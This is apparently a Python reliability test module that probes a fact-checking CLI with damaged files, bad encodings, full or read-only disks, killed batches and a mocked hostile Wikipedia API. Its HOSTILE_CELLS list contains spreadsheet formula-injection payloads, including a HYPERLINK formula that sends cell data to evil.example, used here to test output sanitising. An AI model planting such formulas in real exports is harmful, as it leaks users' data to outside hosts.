"""Probe 9: bad input, damaged files and a hostile Wikipedia, through the command line as people run it (``main``
in this process, so that its threads can be counted). Every case must end in an answer or in one ``error:`` line
naming the file and the fix, never a traceback; a batch must keep every finished row, even when killed; no cell of a
results table may start a spreadsheet formula; a lost ``dense_keys.npy`` must not re-embed the corpus.

The full-disk and read-only cases need root (they mount a small tmpfs, or bind-mount a folder read-only) and are
reported as skipped, with the reason, elsewhere (a non-root user gets the read-only cases through ``chmod``). A killed
batch is run again with the same results file: it must go on from the rows finished.

One module (over 400 lines) because it is one probe: a list of small cases sharing one way to run the command line
and judge its answer.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks.reliability.common import PROJECT_ROOT, Row, counting_embeddings
from benchmarks.reliability.damaged import TINY_PAGES
from fever_core.cli import main
from fever_core.common.claim_lists import MAX_LIST_CLAIMS
from fever_core.corpus.build import SOURCES_FILE, STORE_FILE, corpus_dir
from fever_core.corpus.sources.wikipedia_api import MAX_LEAD_CHARS
from fever_core.evaluation import FORMULA_STARTS, RESULT_COLUMNS
from fever_core.retrieval.dense_build import CHUNK, SPOT_CHECK
from fever_core.retrieval.dense_files import KEYS_FILE
from fever_core.verification.model_integrity import weight_files
from tests.conftest import local_api, recorded_answer, write_jsonl

CLAIM = "Marie Curie won two Nobel Prizes."
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
"""Claims a spreadsheet would run as formulas if written verbatim (OWASP's list)."""
WIKIPEDIA_TIMEOUT_S = 2.0
THREAD_WAIT_S = 3.0
"""Seconds after a live check that its Wikipedia calls may take to stop before the probe calls them leaked."""


@contextlib.contextmanager
def small_disk(folder: Path, size_kib: int = 2048) -> Iterator[Path]:
    """A tmpfs of ``size_kib`` KiB mounted at ``folder`` (made if need be) while the block runs. Needs root;
    raises ``PermissionError`` saying so when it can't mount."""
    folder.mkdir(parents=True, exist_ok=True)
    _mount(["-t", "tmpfs", "-o", f"size={size_kib}k", "tmpfs", str(folder)])
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], check=False, capture_output=True)


def fill_disk(folder: Path) -> Path:
    """Write a file in ``folder`` until its disk has no room left; returns the file (delete it to free the room)."""
    filler = folder / "filler"
    with contextlib.suppress(OSError), filler.open("wb") as fh:
        while True:
            fh.write(b"\0" * 4096)
            fh.flush()
    return filler


@contextlib.contextmanager
def read_only(folder: Path) -> Iterator[Path]:
    """``folder`` read-only while the block runs: bind-mounted read-only for root (whom permissions don't stop),
    ``chmod a-w`` for anyone else. Raises ``PermissionError`` when root can't mount."""
    if os.geteuid() == 0:
        _mount(["--bind", str(folder), str(folder)])
        try:
            _mount(["-o", "remount,ro,bind", str(folder)])
            yield folder
        finally:
            subprocess.run(["umount", "-l", str(folder)], check=False, capture_output=True)
    else:
        mode = folder.stat().st_mode
        folder.chmod(0o555)
        try:
            yield folder
        finally:
            folder.chmod(mode)


def _mount(args: list[str]) -> None:
    if shutil.which("mount") is None:
        raise PermissionError("can't mount: there is no mount command")
    done = subprocess.run(["mount", *args], capture_output=True, text=True, check=False)
    if done.returncode:
        raise PermissionError(f"can't mount ({done.stderr.strip() or 'mount failed'}): needs root with CAP_SYS_ADMIN")


@dataclass
class Ran:
    """One command run in this process: its exit code (``None`` when an exception escaped: a traceback), what it
    printed, and its seconds."""

    code: int | None
    out: str
    err: str
    seconds: float

    @property
    def said(self) -> str:
        """Its ``error:`` line, or the exception, or "" for neither."""
        return next((line for line in self.err.splitlines() if line.startswith(("error:", "Traceback"))), "")


def run_cli(argv: list[str], env: dict[str, str] | None = None) -> Ran:
    """``python -m fever_core *argv`` in this process, with ``env`` added to the environment meanwhile."""
    out, err = io.StringIO(), io.StringIO()
    saved = {key: os.environ.get(key) for key in env or {}}
    os.environ.update(env or {})
    started = time.perf_counter()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(argv)
    except SystemExit as exc:  # argparse's refusals: a message too
        code = exc.code if isinstance(exc.code, int) else 2
    except Exception as exc:  # noqa: BLE001 - what the probe counts
        code = None
        err.write(f"Traceback: {type(exc).__name__}: {exc}\n")
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    return Ran(code, out.getvalue(), err.getvalue(), time.perf_counter() - started)


@dataclass
class Context:
    """What every case gets: a fresh folder of its own, the data folder and corpus to check claims on (only read),
    the verifier, and FEVER pages to build small corpora from."""

    workdir: Path
    data_dir: Path
    corpus: str
    model: str
    pages: Path

    def check_options(self) -> tuple[list[str], list[str]]:
        """The global options (the data folder) and a checking command's (corpus and verifier)."""
        return ["--data-dir", str(self.data_dir)], ["--corpus", self.corpus, "--model", self.model]


@dataclass
class CaseOutcome:
    """One case: what it expects (``"message"``: one ``error:`` line naming ``names``; ``"answer"``: exit 0), what
    happened, and the problem found ("" for none).

    Attributes:
        traceback: an exception escaped the command line.
        lost_rows: finished batch rows missing from the results file.
        formula_cells: results-table cells that start a formula.
    """

    case: str
    expected: str
    happened: str
    seconds: float
    problem: str = ""
    traceback: bool = False
    lost_rows: int = 0
    formula_cells: int = 0
    figures: str = ""


def _judge(case: str, ran: Ran, expected: str, names: str = "", problem: str = "", figures: str = "") -> CaseOutcome:
    """The outcome of a case whose command ``ran``: a message must be one ``error:`` line containing ``names``."""
    if ran.code is None:
        problem = problem or f"traceback: {ran.said}"
    elif expected == "message" and ran.code == 0:
        problem = problem or "answered where it should have refused"
    elif expected == "message" and names not in ran.said:
        problem = problem or f"the message does not name {names!r}"
    elif expected == "answer" and ran.code != 0:
        problem = problem or f"refused: {ran.said}"
    happened = ran.said[7:].strip() if ran.said.startswith("error:") else ("answered" if ran.code == 0 else ran.said)
    return CaseOutcome(case, expected, happened, round(ran.seconds, 1), problem, ran.code is None, figures=figures)


# -- the cases -------------------------------------------------------------------------------------------------


def batch_with_surrogates_and_formulas(ctx: Context) -> CaseOutcome:
    listed = [
        {"claim": "Marie Curie won two Nobel \ud800Prizes."},
        *({"claim": cell} for cell in HOSTILE_CELLS),
        {"claim": CLAIM, "id": "=1+1"},
    ]
    claims = write_jsonl(ctx.workdir / "claims.jsonl", listed)  # "\ud800" as JSON escapes it
    out = ctx.workdir / "results.csv"
    data, check = ctx.check_options()
    ran = run_cli([*data, "check-batch", str(claims), *check, "--out", str(out)])
    rows = list(csv.reader(out.open(encoding="utf-8", newline=""))) if out.is_file() else []
    cells = [cell for row in rows[1:] for cell in row]
    outcome = _judge(
        "check-batch: a lone surrogate and formula cells",
        ran,
        "answer",
        figures=f"{max(0, len(rows) - 1)} of {len(listed)} rows written",
    )
    outcome.lost_rows = len(listed) - max(0, len(rows) - 1)
    outcome.formula_cells = sum(cell.startswith(FORMULA_STARTS) for cell in cells)
    if outcome.lost_rows or outcome.formula_cells:
        outcome.problem = outcome.problem or f"{outcome.lost_rows} rows lost, {outcome.formula_cells} formula cells"
    return outcome


def _killed_batch(ctx: Context, claims: Path, out: Path, kill_after_rows: int, wait_s: float) -> int:
    """check-batch of ``claims`` into ``out`` in a child process, killed (SIGKILL) once its progress bar says
    ``kill_after_rows`` claims are checked (counting those a rerun kept); returns the count it said."""
    data, check = ctx.check_options()
    env = {**os.environ, "PYTHONPATH": str(PROJECT_ROOT)}
    child = subprocess.Popen(
        [sys.executable, "-m", "fever_core", *data, "check-batch", str(claims), *check, "--out", str(out)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    total = len(claims.read_text(encoding="utf-8").splitlines())
    checked = [0]
    enough = threading.Event()

    def follow_progress() -> None:  # tqdm's "Checking claims: ... 3/200" on stderr, redrawn after each claim
        for piece in iter(lambda: child.stderr.read1(4096), b""):
            for done in re.findall(rb"(\d+)/" + str(total).encode(), piece):
                checked[0] = max(checked[0], int(done))
            if checked[0] >= kill_after_rows:
                enough.set()
        enough.set()

    threading.Thread(target=follow_progress, daemon=True).start()
    enough.wait(wait_s)
    child.send_signal(signal.SIGKILL)
    child.wait()
    return checked[0]


def batch_killed_midway(
    ctx: Context, claims_count: int = 200, kill_after_rows: int = 3, wait_s: float = 600.0
) -> CaseOutcome:
    """check-batch in a child process, killed (SIGKILL) once its progress bar says ``kill_after_rows`` claims are
    checked, then run again with the same ``--out`` and killed two claims later: every row it finished must be whole in
    its results file, the rerun must have gone on from them (each claim once, in list order)."""
    claims = ctx.workdir / "many.txt"
    claims.write_text("".join(f"{CLAIM} ({n})\n" for n in range(claims_count)), encoding="utf-8")
    out = ctx.workdir / "killed.jsonl"
    started = time.perf_counter()
    first = _killed_batch(ctx, claims, out, kill_after_rows, wait_s)
    after_first = _whole_rows(out)
    second = _killed_batch(ctx, claims, out, after_first + 2, wait_s)
    ids = [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines() if _is_json(line)]
    outcome = CaseOutcome(
        "check-batch killed mid-batch (SIGKILL), rerun, killed again",
        "rows kept",
        f"{len(ids)} whole rows in the file",
        round(time.perf_counter() - started, 1),
        figures=f"killed when its progress said {first}, then {second} of {claims_count} were "
        f"checked; {after_first} rows after the first kill",
    )
    outcome.lost_rows = max(0, first - after_first) + max(0, second - len(ids))
    if outcome.lost_rows or not first:
        outcome.problem = f"{outcome.lost_rows} finished rows lost" if first else "it checked no claim"
    elif ids != list(range(1, len(ids) + 1)):
        outcome.problem = "the rerun did not go on from the finished rows (a claim missing or twice)"
    return outcome


def _whole_rows(out: Path) -> int:
    lines = out.read_text(encoding="utf-8").splitlines() if out.is_file() else []
    return sum(1 for line in lines if _is_json(line))


def _is_json(line: str) -> bool:
    try:
        json.loads(line)
    except ValueError:
        return False
    return True


def truncated_weights(ctx: Context) -> CaseOutcome:
    """The verifier in use copied with its weights file (``model.safetensors``, packed ``model.int8.safetensors``, or
    an adapter's) cut to half."""
    source = Path(ctx.model)
    names = weight_files(source) if source.is_dir() else []
    case = f"verifier: truncated {names[0] if names else 'weights'}"
    if not names:
        return CaseOutcome(case, "message", "skipped", 0.0, figures=f"{ctx.model} is not a local folder with weights")
    copy = ctx.workdir / "verifier"
    shutil.copytree(source, copy)
    weights = copy / names[0]
    with weights.open("r+b") as fh:
        fh.truncate(weights.stat().st_size // 2)
    data, check = ctx.check_options()
    ran = run_cli([*data, "check", CLAIM, *check[:2], "--model", str(copy)])
    if ran.code == 0:  # a model that fails to load may be replaced by the shipped one, with a warning naming it
        named = str(copy) in ran.err
        return _judge(
            case, ran, "answer", problem="" if named else "answered without a warning naming the damaged model"
        )
    return _judge(case, ran, "message", str(copy))


def _build_case(
    ctx: Context,
    case: str,
    prepare: Callable[[Path], list[str]],
    names: Callable[[Path], str],
    expected: str = "message",
) -> CaseOutcome:
    """``corpus build`` (or what ``prepare`` returns) in a fresh data folder that ``prepare`` sets up."""
    data_dir = ctx.workdir / "data"
    ran = run_cli(["--data-dir", str(data_dir), *prepare(data_dir)])
    return _judge(case, ran, expected, names(data_dir))


def store_is_a_folder(ctx: Context) -> CaseOutcome:
    def prepare(data_dir: Path) -> list[str]:
        (corpus_dir(data_dir, "probe") / STORE_FILE).mkdir(parents=True)
        return ["corpus", "build", "probe", "--source", f"fever:{ctx.pages}"]

    return _build_case(ctx, "store.sqlite is a folder", prepare, lambda d: str(corpus_dir(d, "probe") / STORE_FILE))


def corpus_folder_is_a_file(ctx: Context) -> CaseOutcome:
    def prepare(data_dir: Path) -> list[str]:
        corpus_dir(data_dir, "probe").parent.mkdir(parents=True)
        corpus_dir(data_dir, "probe").write_text("not a folder")
        return ["corpus", "build", "probe", "--source", f"fever:{ctx.pages}"]

    return _build_case(ctx, "the corpus folder is a file", prepare, lambda d: str(corpus_dir(d, "probe")))


def long_corpus_name(ctx: Context) -> CaseOutcome:
    return _build_case(
        ctx,
        "a 300-character corpus name",
        lambda d: ["corpus", "build", "x" * 300, "--source", f"fever:{ctx.pages}"],
        lambda d: "too long",
    )


def huge_line_number_in_pages(ctx: Context) -> CaseOutcome:
    pages = write_jsonl(
        ctx.workdir / "huge-line.jsonl", [*TINY_PAGES[:2], {"id": "Huge", "lines": f"{10**20}\tHuge ."}]
    )
    return _build_case(
        ctx,
        "a FEVER page's line number 10^20",
        lambda d: ["corpus", "build", "probe", "--source", f"fever:{pages}"],
        lambda d: f"{pages}:3",
    )


def huge_line_number_in_evidence(ctx: Context) -> CaseOutcome:
    claims = ctx.workdir / "claims.jsonl"
    claims.write_text(
        json.dumps({"id": 1, "claim": CLAIM, "label": "SUPPORTS", "evidence": [[[1, 1, "Marie_Curie", 10**20]]]})
        + "\n",
        encoding="utf-8",
    )
    data, check = ctx.check_options()
    ran = run_cli([*data, "evaluate", "--claims", str(claims), *check])
    return _judge("a claim's evidence line number 10^20", ran, "message", f"{claims}:1")


def pages_not_utf8(ctx: Context) -> CaseOutcome:
    pages = ctx.workdir / "latin1.jsonl"
    pages.write_bytes(
        json.dumps(TINY_PAGES[0]).encode() + b"\n" + '{"id": "Zürich", "lines": "0\\tZürich ."}\n'.encode("latin-1")
    )
    return _build_case(
        ctx,
        "non-UTF-8 bytes in FEVER pages",
        lambda d: ["corpus", "build", "probe", "--source", f"fever:{pages}"],
        lambda d: f"{pages}:2",
    )


def claims_not_utf8(ctx: Context) -> CaseOutcome:
    claims = ctx.workdir / "latin1.txt"
    claims.write_bytes(f"{CLAIM}\nZürich is in Switzerland.\n".encode("latin-1"))
    data, check = ctx.check_options()
    ran = run_cli([*data, "check-batch", str(claims), *check])
    return _judge("non-UTF-8 bytes in a claim list", ran, "message", f"{claims}:2")


def deep_json(ctx: Context) -> CaseOutcome:
    claims = ctx.workdir / "deep.jsonl"
    claims.write_text(json.dumps({"claim": CLAIM}) + "\n" + "[" * 100_000 + "\n", encoding="utf-8")
    data, check = ctx.check_options()
    ran = run_cli([*data, "check-batch", str(claims), *check])
    return _judge("JSON nested 100,000 deep in a claim list", ran, "message", f"{claims}:2")


def built_in_sources_replaced(ctx: Context) -> CaseOutcome:
    outcome = _build_case(
        ctx,
        "corpus build embedded --source fever:x.jsonl",
        lambda d: ["corpus", "build", "embedded", "--source", f"fever:{ctx.pages}"],
        lambda d: "built-in corpus",
    )
    if corpus_dir(ctx.workdir / "data", "embedded").exists() and not outcome.problem:
        outcome.problem = "the embedded corpus's folder was written"
    return outcome


def claim_id_an_object(ctx: Context) -> CaseOutcome:
    claims = write_jsonl(ctx.workdir / "claims.jsonl", [{"id": 1, "claim": CLAIM}, {"id": {"n": 2}, "claim": CLAIM}])
    data, check = ctx.check_options()
    ran = run_cli([*data, "check-batch", str(claims), *check])
    return _judge("a FEVER jsonl claim whose id is an object", ran, "message", f"{claims}:2")


def claim_list_too_long(ctx: Context) -> CaseOutcome:
    claims = ctx.workdir / "long.txt"
    claims.write_text(f"{CLAIM}\n" * (MAX_LIST_CLAIMS + 1), encoding="utf-8")
    data, check = ctx.check_options()
    ran = run_cli([*data, "check-batch", str(claims), *check])
    return _judge(f"a claim list of {MAX_LIST_CLAIMS + 1:,} claims", ran, "message", f"{claims} has more than")


def empty_history(ctx: Context) -> CaseOutcome:
    """A 0-byte ``history.sqlite``, opened as the app opens it: refused as empty, never taken for a new one."""
    from fever_core.common import UnusableDatabase
    from fever_core.workbench import HistoryStore

    path = ctx.workdir / "history.sqlite"
    path.write_bytes(b"")
    started = time.perf_counter()
    try:
        HistoryStore(path)
        code, err = 0, ""
    except UnusableDatabase as exc:
        code, err = 2, f"error: {exc}"
    ran = Ran(code, "", err, time.perf_counter() - started)
    outcome = _judge("history.sqlite of 0 bytes", ran, "message", f"{path} is empty")
    if path.stat().st_size and not outcome.problem:
        outcome.problem = "the empty file was written to"
    return outcome


def damaged_sources_list(ctx: Context) -> CaseOutcome:
    def prepare(data_dir: Path) -> list[str]:
        corpus_dir(data_dir, "probe").mkdir(parents=True)
        (corpus_dir(data_dir, "probe") / SOURCES_FILE).write_text(f'["fever:{ctx.pages}', encoding="utf-8")  # cut off
        return ["corpus", "info", "probe"]

    return _build_case(
        ctx, "sources.json cut off mid-string", prepare, lambda d: str(corpus_dir(d, "probe") / SOURCES_FILE)
    )


def full_disk(ctx: Context) -> list[CaseOutcome]:
    """A corpus built on a 4 MiB tmpfs, the disk filled: opening it must answer, or say the disk is full (never that
    the store is damaged, never rebuild it); building another must say the disk is full and leave nothing; with room
    again, the store opens as it was. Then a batch's results filling the disk mid-batch must stop with the message,
    every row whole, and its rerun with room must go on from them."""
    disk = ctx.workdir / "disk"
    with small_disk(disk, 4096):
        built = run_cli(["--data-dir", str(disk), "corpus", "build", "probe", "--source", f"fever:{ctx.pages}"])
        if built.code != 0:
            return [_judge("full disk: building the corpus to fill around", built, "answer")]
        store = corpus_dir(disk, "probe") / STORE_FILE
        before = store.read_bytes()
        filler = fill_disk(disk)
        opened = run_cli(["--data-dir", str(disk), "corpus", "info", "probe"])
        other = run_cli(["--data-dir", str(disk), "corpus", "build", "probe2", "--source", f"fever:{ctx.pages}"])
        left = corpus_dir(disk, "probe2").exists()
        filler.unlink()
        again = run_cli(["--data-dir", str(disk), "corpus", "info", "probe"])
        unchanged = store.read_bytes() == before
        out = disk / "results.csv"  # a batch of long claims (a row ~1 KB) with a page of room: it fills mid-batch
        claims = ctx.workdir / "long-claims.txt"
        claims.write_text("".join(f"{CLAIM} {'It is a long claim. ' * 45}({n})\n" for n in range(12)), encoding="utf-8")
        filler = fill_disk(disk)
        with filler.open("r+b") as fh:
            fh.truncate(max(0, filler.stat().st_size - 4096))
        data, check = ctx.check_options()
        batch = run_cli([*data, "check-batch", str(claims), *check, "--out", str(out)])
        written = out.read_bytes().decode("utf-8") if out.is_file() else ""
        filler.unlink()
        rerun = run_cli([*data, "check-batch", str(claims), *check, "--out", str(out)])
        finished = out.read_bytes().decode("utf-8") if out.is_file() else ""
    opened_ok = opened.code == 0 or "is full" in opened.said  # it can be read while its WAL index has room
    rows = list(csv.reader(io.StringIO(written, newline="")))[1:]
    torn = bool(written) and (not written.endswith("\r\n") or any(len(row) != len(RESULT_COLUMNS) for row in rows))
    batch_outcome = _judge(
        "full disk: check-batch --out",
        batch,
        "message",
        f"{out}: the disk holding it is full",
        problem="its last row is torn" if torn else "",
        figures=f"{len(rows)} whole rows of 12 when the disk filled",
    )
    kept = finished.startswith(written) and len(list(csv.reader(io.StringIO(finished, newline="")))) == 13
    rerun_outcome = _judge(
        "full disk: the same batch with room again",
        rerun,
        "answer",
        problem="" if kept else "it did not go on from the rows written before",
    )
    outcomes = [
        _judge(
            "full disk: opening an intact corpus",
            opened,
            "answer" if opened.code == 0 else "message",
            "is full",
            problem="" if unchanged and opened_ok else "the intact store was rewritten or called damaged",
        ),
        _judge(
            "full disk: building a corpus",
            other,
            "message",
            "is full",
            problem="its folder was left behind" if left else "",
        ),
        _judge(
            "full disk: the same corpus with room again",
            again,
            "answer",
            problem="" if unchanged else "the intact store was rewritten",
        ),
        batch_outcome,
        rerun_outcome,
    ]
    return outcomes


def read_only_live(ctx: Context) -> list[CaseOutcome]:
    """A read-only data folder: the live corpus, building a corpus there, and a batch's results written there."""
    data_dir = ctx.workdir / "read-only-data"
    data_dir.mkdir()
    claims = ctx.workdir / "claims.txt"
    claims.write_text(f"{CLAIM}\n", encoding="utf-8")
    out = data_dir / "results.csv"
    data, check = ctx.check_options()
    with read_only(data_dir):
        live = run_cli(
            ["--data-dir", str(data_dir), "check", CLAIM, "--corpus", "wikipedia", "--model", ctx.model],
            {"FEVER_WIKIPEDIA_API_URL": "http://127.0.0.1:9/w/api.php"},
        )
        built = run_cli(["--data-dir", str(data_dir), "corpus", "build", "probe", "--source", f"fever:{ctx.pages}"])
        batch = run_cli([*data, "check-batch", str(claims), *check, "--out", str(out)])
    return [
        _judge(
            "--corpus wikipedia on a read-only data folder", live, "message", str(corpus_dir(data_dir, "wikipedia"))
        ),
        _judge("corpus build --source fever:F on a read-only data folder", built, "message", str(data_dir)),
        _judge("check-batch --out on a read-only folder", batch, "message", str(out)),
    ]


def _live_case(
    ctx: Context,
    case: str,
    answer: Callable[[dict[str, str]], bytes],
    check: Callable[[Path], str] | None = None,
    claim: str = "Ada Lovelace worked on the Analytical Engine.",
) -> CaseOutcome:
    """``check --corpus wikipedia`` against a local ``api.php`` answering with ``answer(query)``: an answer within
    the timeout and a margin, and no Wikipedia call still running :data:`THREAD_WAIT_S` later."""
    data_dir = ctx.workdir / "live-data"
    before = set(threading.enumerate())
    with local_api(answer) as url:
        ran = run_cli(
            [
                "--data-dir",
                str(data_dir),
                "check",
                claim,
                "--corpus",
                "wikipedia",
                "--model",
                ctx.model,
                "--no-two-hop",
            ],
            {"FEVER_WIKIPEDIA_API_URL": url, "FEVER_WIKIPEDIA_TIMEOUT_S": str(WIKIPEDIA_TIMEOUT_S)},
        )
        give_up = time.monotonic() + THREAD_WAIT_S
        while (
            running := [t for t in threading.enumerate() if t.name == "wikipedia-call" and t not in before]
        ) and time.monotonic() < give_up:
            time.sleep(0.05)
    problem = f"{len(running)} Wikipedia calls still running {THREAD_WAIT_S:g} s after the check" if running else ""
    problem = problem or (check(data_dir) if check and ran.code == 0 else "")
    return _judge(case, ran, "answer", problem=problem, figures=f"{len(running)} calls left running")


def endless_continue(ctx: Context) -> CaseOutcome:
    def answer(query: dict[str, str]) -> bytes:
        if query.get("prop") == "links":
            return json.dumps(
                {
                    "continue": {"plcontinue": f"974|0|{time.monotonic()}", "continue": "||"},
                    "query": {
                        "pages": {
                            "974": {
                                "pageid": 974,
                                "ns": 0,
                                "title": query.get("titles"),
                                "links": [{"ns": 0, "title": "Charles Babbage"}],
                            }
                        }
                    },
                }
            ).encode()
        return json.dumps(recorded_answer(query)).encode()

    return _live_case(ctx, "Wikipedia: links that never stop (continue)", answer)


def huge_lead(ctx: Context) -> CaseOutcome:
    lead = ("Ada Lovelace was an English mathematician. " * 250_000)[:10_000_000]

    def answer(query: dict[str, str]) -> bytes:
        found = recorded_answer(query)
        if query.get("prop") == "extracts":
            for page in found["query"]["pages"].values():
                page["extract"] = lead if "missing" not in page else ""
        return json.dumps(found).encode()

    def kept_cut(data_dir: Path) -> str:
        from fever_core.corpus.store import CorpusStore

        with CorpusStore.open(corpus_dir(data_dir, "wikipedia") / STORE_FILE) as store:
            longest = max(
                (sum(len(s.text) for s in store.page(page_id).sentences) for page_id, _ in store.titles()), default=0
            )
        return "" if longest <= MAX_LEAD_CHARS else f"a lead of {longest:,} characters was kept"

    return _live_case(ctx, "Wikipedia: a 10 MB lead", answer, kept_cut)


def surrogate_search(ctx: Context) -> CaseOutcome:
    def answer(query: dict[str, str]) -> bytes:
        found = recorded_answer(query)
        if query.get("list") == "search":
            for hit in found.get("query", {}).get("search", []):
                hit["title"] = hit["title"][:3] + "\ud800" + hit["title"][3:]
        return json.dumps(found).encode()  # ASCII-escaped: "\ud800" as JSON writes it

    return _live_case(ctx, "Wikipedia: a lone surrogate in its search", answer)


def lost_keys(ctx: Context, source: Path, name: str) -> CaseOutcome:
    """The corpus folder ``source`` copied, its ``dense_keys.npy`` deleted, opened with ``corpus info``: the texts
    embedded again must be no more than the spot checks (:data:`~fever_core.retrieval.dense_build.SPOT_CHECK` a chunk)."""
    data_dir = ctx.workdir / "keys-data"
    copy = corpus_dir(data_dir, name)
    shutil.copytree(source, copy, ignore=shutil.ignore_patterns("dense.partial"))
    (copy / KEYS_FILE).unlink()
    with counting_embeddings() as encoded:
        ran = run_cli(["--data-dir", str(data_dir), "corpus", "info", name])
    sentences = json.loads(ran.out)["sentences"] if ran.code == 0 else 0
    re_embedded = sum(encoded)
    spot_checks = SPOT_CHECK * -(-sentences // CHUNK)  # one spot check a chunk
    problem = "more than the spot checks embedded again" if re_embedded > spot_checks else ""
    return _judge(
        "dense_keys.npy deleted",
        ran,
        "answer",
        problem=problem,
        figures=f"{re_embedded:,} of {sentences:,} sentences embedded again (spot checks: at most "
        f"{spot_checks:,}), {ran.seconds:.1f} s",
    )


@dataclass
class MessagesResult:
    """Probe 9: one outcome per case, and the cases skipped with the reason."""

    outcomes: list[CaseOutcome]
    skipped: dict[str, str] = field(default_factory=dict)

    @property
    def tracebacks(self) -> int:
        return sum(o.traceback for o in self.outcomes)

    @property
    def lost_rows(self) -> int:
        return sum(o.lost_rows for o in self.outcomes)

    @property
    def ok(self) -> bool:
        return not any(o.problem for o in self.outcomes)

    def rows(self) -> list[Row]:
        rows = [
            (
                "9 messages",
                "ok" if self.ok else "FAIL",
                (
                    f"{len(self.outcomes)} cases: {self.tracebacks} tracebacks, {self.lost_rows} batch rows lost, "
                    f"{sum(o.formula_cells for o in self.outcomes)} formula cells, "
                    f"{sum(bool(o.problem) for o in self.outcomes)} problems; {len(self.skipped)} skipped"
                ),
            )
        ]
        for o in self.outcomes:
            said = o.problem or o.happened
            rows.append(
                (
                    f"9 {o.case}",
                    "FAIL" if o.problem else o.expected,
                    f"{o.seconds:.1f} s: {said[:110]}" + (f" ({o.figures})" if o.figures else ""),
                )
            )
        rows += [(f"9 {case}", "skipped", why) for case, why in self.skipped.items()]
        return rows


CASES: list[Callable[[Context], CaseOutcome]] = [
    batch_with_surrogates_and_formulas,
    truncated_weights,
    store_is_a_folder,
    corpus_folder_is_a_file,
    long_corpus_name,
    huge_line_number_in_pages,
    huge_line_number_in_evidence,
    pages_not_utf8,
    claims_not_utf8,
    deep_json,
    built_in_sources_replaced,
    damaged_sources_list,
    endless_continue,
    huge_lead,
    surrogate_search,
    claim_id_an_object,
    claim_list_too_long,
    empty_history,
]
"""The cases that need nothing but a folder of their own; :func:`run` adds the killed batch, the lost key file and
the root-only ones."""


def run(
    data_dir: Path, corpus: str, model: str, workdir: Path, keys_corpus: tuple[Path, str], kill: bool = True
) -> MessagesResult:
    """Every case, each in a folder of its own under ``workdir``. Claims are checked on ``corpus`` of ``data_dir``
    (only read) with the verifier ``model``; the lost-key case copies the folder of ``keys_corpus`` (its folder and
    name); ``kill``: run the killed batch too (a child process that loads the models)."""
    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    pages = write_jsonl(workdir / "pages.jsonl", TINY_PAGES)

    def context(name: str) -> Context:
        folder = workdir / name
        folder.mkdir(parents=True)
        return Context(folder, Path(data_dir), corpus, model, pages)

    outcomes: list[CaseOutcome] = [case(context(case.__name__)) for case in CASES]
    outcomes.append(lost_keys(context("lost_keys"), *keys_corpus))
    if kill:
        outcomes.append(batch_killed_midway(context("batch_killed_midway")))
    skipped: dict[str, str] = {}
    for name, case in (("full disk", full_disk), ("read-only data folder", read_only_live)):
        try:
            found = case(context(case.__name__))
        except PermissionError as exc:
            skipped[name] = str(exc)
            continue
        outcomes += found if isinstance(found, list) else [found]
    return MessagesResult(outcomes, skipped)
